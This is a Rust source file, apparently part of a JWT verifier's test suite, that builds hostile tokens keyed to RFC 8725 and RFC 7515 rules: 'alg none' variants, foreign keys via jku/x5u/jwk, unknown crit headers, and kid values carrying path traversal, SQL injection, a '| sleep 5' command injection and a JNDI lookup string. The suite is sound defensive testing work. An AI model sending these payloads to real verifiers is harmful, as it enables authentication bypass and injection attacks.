//! What a header can ask for.

use serde_json::{Value, json};

use super::{Hostile, World, first, with};
use crate::encode;
use crate::sign::header;

const NONE: &str = "RFC 8725 §3.1, RFC 7518 §3.6: unsecured tokens";
const MEMBER: &str = "RFC 7515 §4.1: not of its type";
const EXPLICIT_TYPE: &str = "RFC 8725 §3.11: a token for another use";
const FOREIGN: &str = "RFC 8725 §3.10: keys that the token brings itself";
const CRITICAL: &str = "RFC 7515 §4.1.11: critical headers that nobody understands";
const KEY_ID: &str = "RFC 8725 §3.10: kid as input to something else";

pub(super) fn table(world: &World) -> Vec<Hostile> {
    [algorithms(world), types(world), foreign_keys(world), critical(world), key_ids(world)]
        .into_iter()
        .flatten()
        .collect()
}

fn changed(world: &World, name: &str, value: Value) -> String {
    let mut header = header("RS256");
    header[name] = value;
    world.rs256(&header, &world.claims())
}

fn algorithms(world: &World) -> Vec<Hostile> {
    let mut table = Vec::new();
    for name in ["none", "None", "NONE", "nOnE", "", " none", "RS256 ", "rs256", "Rs256"] {
        let signed = changed(world, "alg", name.into());
        let (input, _) = signed.rsplit_once('.').expect("a token");
        table.push(Hostile::new(
            format!("alg {name:?} without signature"),
            NONE,
            format!("{input}."),
        ));
        table.push(Hostile::new(format!("alg {name:?} with a signature"), NONE, &*signed));
    }
    for value in [Value::Null, json!(0), json!(["RS256"]), json!({"RS256": 1}), json!(true)] {
        let name = format!("alg {value}");
        table.push(Hostile::new(name, MEMBER, changed(world, "alg", value)));
    }
    let bare = with(&header("RS256"), "alg", Value::Null);
    table.push(Hostile::new("no alg", MEMBER, world.rs256(&bare, &world.claims())));
    table
}

fn types(world: &World) -> Vec<Hostile> {
    let names = [
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "application/dpop+jwt",
        "DPOP+JWT",
        "JWE",
        "JOSE+JSON",
        "oauth-authz-req+jwt",
        "token-introspection+jwt",
        "entity-statement+jwt",
        "vc+sd-jwt",
        "at+jwt;x",
    ];
    let of_name = |name: &str| {
        Hostile::new(format!("typ {name:?}"), EXPLICIT_TYPE, changed(world, "typ", name.into()))
    };
    let of_value =
        |value: Value| Hostile::new(format!("typ {value}"), MEMBER, changed(world, "typ", value));
    let values = [json!(1), json!(["JWT"]), json!({"JWT": 1})];
    names.into_iter().map(of_name).chain(values.into_iter().map(of_value)).collect()
}

/// Signed with a key that is only named, or brought along, by the token itself.
fn foreign_keys(world: &World) -> Vec<Hostile> {
    let own = json!({"kty": "RSA", "n": super::rsa_member("n"), "e": "AQAB", "kid": "mine"});
    let members = [
        ("nothing", Value::Null),
        ("jwk", own),
        ("jku", json!("https://elsewhere.test/keys")),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!("https://elsewhere.test/certificate")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
    ];
    let token = |name: &str, value: &Value, kid: Value| {
        let header = with(&with(&header("RS256"), name, value.clone()), "kid", kid);
        let input =
            format!("{}.{}", encode(header.to_string()), encode(world.claims().to_string()));
        let signature = encode(world.signer.sign_foreign(input.as_bytes()));
        Hostile::new(
            format!("signed with a foreign key, {name} {value}"),
            FOREIGN,
            format!("{input}.{signature}"),
        )
    };
    members
        .iter()
        .flat_map(|(name, value)| [json!("rsa"), Value::Null].map(|kid| token(name, value, kid)))
        .collect()
}

fn critical(world: &World) -> Vec<Hostile> {
    let mut table: Vec<_> =
        [json!(["exp"]), json!([]), json!(["x"]), json!("exp"), json!(true), json!({})]
            .into_iter()
            .map(|value| {
                Hostile::new(format!("crit {value}"), CRITICAL, changed(world, "crit", value))
            })
            .collect();
    // RFC 7797: the payload as it is, not base64url.
    let header = with(&with(&header("RS256"), "b64", json!(false)), "crit", json!(["b64"]));
    let unencoded = "RFC 7797 §7: unencoded payloads are no JWT";
    let claims = world.claims().to_string();
    for claims in [encode(&claims), claims] {
        let token = world.signer.token_of("RS256", &encode(header.to_string()), &claims);
        table.push(Hostile::new("b64 false", unencoded, token));
    }
    table.push(Hostile::new("b64 false alone", unencoded, changed(world, "b64", json!(false))));
    table
}

fn key_ids(world: &World) -> Vec<Hostile> {
    let texts = [
        "../../../../dev/null",
        "/etc/passwd",
        "rsa' OR '1'='1",
        "rsa\0",
        "\0",
        "",
        "RSA",
        " rsa",
        "rsa ",
        "rsa\n",
        "file:///dev/null",
        "| sleep 5",
        "${jndi:ldap://elsewhere.test/a}",
        "%00",
        "nobody",
    ];
    let of_text =
        |kid: &str| Hostile::new(format!("kid {kid:?}"), KEY_ID, changed(world, "kid", kid.into()));
    let of_value =
        |kid: Value| Hostile::new(format!("kid {kid}"), MEMBER, changed(world, "kid", kid));
    let values = [json!(1), json!(["rsa"]), json!({"rsa": 1}), json!(true)];
    let mut table: Vec<_> =
        texts.into_iter().map(of_text).chain(values.into_iter().map(of_value)).collect();
    let long = changed(world, "kid", "k".repeat(4_000).into());
    table.push(Hostile::new("a kid of 4 000 characters", KEY_ID, long));
    let twice =
        world.parts(first(&header("RS256"), r#""kid":"nobody""#), world.claims().to_string());
    table.push(Hostile::new("kid twice", "RFC 7515 §4: member names must be unique", twice));
    table
}
